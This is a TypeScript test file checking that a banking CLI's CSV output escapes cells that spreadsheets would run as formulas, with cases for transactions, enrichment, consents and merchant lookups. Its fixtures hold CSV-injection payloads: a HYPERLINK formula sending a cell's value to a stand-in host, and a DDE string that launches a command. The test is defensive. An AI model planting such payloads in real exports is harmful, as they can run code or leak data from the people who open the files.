// Cells a spreadsheet would run as formulas, in every command's -o csv (docs/reference/output.md,
// "CSV"): a transaction description, a merchant name or a key that starts with =, +, -, @ or a tab
// is written with a ' in front; plain numbers, negative amounts among them, are left alone. A
// person at a terminal and a script, each way: the whole-reply writer and merchants' streamed one.
// Numbers are written as the reply has them, every digit kept (-1e400 too), and never prefixed.
import { describe, expect, it } from 'vitest';

import { FakeService, MODES, svc } from '../support/in-process.js';

const ID = 'rpt_9f2c41d07ab35e18';
/** Descriptions a statement's author can write, each a formula to a spreadsheet. */
const HYPERLINK = '=HYPERLINK("http://x.test/?"&A1,"Refund")';
const DDE = "-2+3+cmd|' /C calc'!A0";
const PLUS = '+SUM(1,2)';
const AT = '@SUM(A1:A9)';
const TAB = '\t=1+1';

const transaction = (id: string, description: string, amounts: Record<string, unknown>) => ({
  id,
  date: '2026-03-25',
  description,
  ...amounts,
  category: 'other',
});
const TRANSACTIONS = {
  count: 5,
  transactions: [
    transaction('txn_1', HYPERLINK, { debit: -12.5, balance: -300 }),
    transaction('txn_2', DDE, { credit: '-12.5', balance: '-1e3' }),
    transaction('txn_3', PLUS, { debit: 5 }),
    transaction('txn_4', AT, { debit: 5 }),
    { ...transaction('txn_5', TAB, { debit: 5 }), '=cmd|x': '-x' },
  ],
};
/**
 * The documented fields first, in their documented order (docs/reference/output.md, "CSV"): credit
 * before balance.
 */
const EXPECTED_TRANSACTIONS = [
  "id,date,description,debit,credit,balance,category,'=cmd|x",
  `txn_1,2026-03-25,"'=HYPERLINK(""http://x.test/?""&A1,""Refund"")",-12.5,,-300,other,`,
  "txn_2,2026-03-25,'-2+3+cmd|' /C calc'!A0,,-12.5,-1e3,other,",
  `txn_3,2026-03-25,"'+SUM(1,2)",5,,,other,`,
  "txn_4,2026-03-25,'@SUM(A1:A9),5,,,other,",
  "txn_5,2026-03-25,'\t=1+1,5,,,other,'-x",
  '',
].join('\r\n');

describe.each(MODES)(
  "-o csv, for $mode: cells that would run as formulas get a ' in front, plain numbers do not",
  ({ tty }) => {
    it('reports transactions', async () => {
      const service = new FakeService().expect('GET', `/v1/reports/${ID}/transactions`, {
        body: TRANSACTIONS,
      });
      const result = await svc(['reports', 'transactions', ID, '-o', 'csv'], { tty, service });
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).toBe(EXPECTED_TRANSACTIONS);
      expect(result.stderr).toBe('');
    });

    it("reports get: the report's transactions", async () => {
      const service = new FakeService().expect('GET', `/v1/reports/${ID}`, {
        body: { report_id: ID, status: 'complete', ...TRANSACTIONS },
      });
      const result = await svc(['reports', 'get', ID, '-o', 'csv'], { tty, service });
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).toBe(EXPECTED_TRANSACTIONS);
      expect(result.stderr).toBe('');
    });

    it('enrich: the enriched transactions', async () => {
      const reply = {
        count: 2,
        transactions: [
          {
            date: '2026-03-25',
            description: HYPERLINK,
            debit: 100,
            balance: -100,
            category: '@risk',
          },
          { date: '2026-03-26', description: 'ATM', debit: 5, balance: -105, category: 'cash' },
        ],
      };
      const service = new FakeService().expect('POST', '/v1/enrich', { body: reply });
      const stdin =
        'date,description,credit,debit,balance\n2026-03-25,X,,100,-100\n2026-03-26,ATM,,5,-105\n';
      const result = await svc(['enrich', '--file', '-', '-o', 'csv'], { tty, stdin, service });
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).toBe(
        `date,description,debit,balance,category\r\n2026-03-25,"'=HYPERLINK(""http://x.test/?""&A1,""Refund"")",100,-100,'@risk\r\n2026-03-26,ATM,5,-105,cash\r\n`,
      );
    });

    it('consents list: a reply whose shape no document shows', async () => {
      const service = new FakeService().expect('GET', '/v1/consents', {
        body: { data: [{ id: 'cns_1', grantee_label: DDE, reads: -1 }] },
      });
      const result = await svc(['consents', 'list', '-o', 'csv'], { tty, service });
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).toBe("id,grantee_label,reads\r\ncns_1,'-2+3+cmd|' /C calc'!A0,-1\r\n");
    });

    it('merchants resolve: the streamed writer', async () => {
      const found = {
        input: '9000000000000001',
        type: 'terminal',
        matched: true,
        merchant: HYPERLINK,
        mcc: '5411',
        category: '+groceries',
        city: '-',
        terminal: '9000000000000001',
      };
      const service = new FakeService().expect('POST', '/v1/merchants/resolve', {
        body: { data: { count: 1, matched: 1, results: [found] }, meta: {} },
      });
      const result = await svc(['merchants', 'resolve', '9000000000000001', '-o', 'csv'], {
        tty,
        service,
      });
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).toBe(
        'input,type,matched,terminal,merchant,mcc,category,city\r\n' +
          `9000000000000001,terminal,true,9000000000000001,"'=HYPERLINK(""http://x.test/?""&A1,""Refund"")",5411,'+groceries,'-\r\n`,
      );
    });
  },
);

describe.each(MODES)(
  'numbers as received, for $mode: every digit kept, and a plain number, however written, is no formula',
  ({ tty }) => {
    const raw = `{"count":1,"transactions":[{"id":"txn_1","date":"2026-03-25","description":"REFUND","debit":125000.50,"balance":-1e400,"ref":12345678901234567890,"split":{"a":-0.10}}]}`;
    const service = () =>
      new FakeService().expect('GET', `/v1/reports/${ID}/transactions`, { raw });

    it('-o csv', async () => {
      const result = await svc(['reports', 'transactions', ID, '-o', 'csv'], {
        tty,
        service: service(),
      });
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).toBe(
        'id,date,description,debit,balance,ref,split.a\r\ntxn_1,2026-03-25,REFUND,125000.50,-1e400,12345678901234567890,-0.10\r\n',
      );
    });

    it('-o ndjson', async () => {
      const result = await svc(['reports', 'transactions', ID, '-o', 'ndjson'], {
        tty,
        service: service(),
      });
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).toBe(`${raw.slice(raw.indexOf('[') + 1, raw.lastIndexOf(']'))}\n`);
    });
  },
);
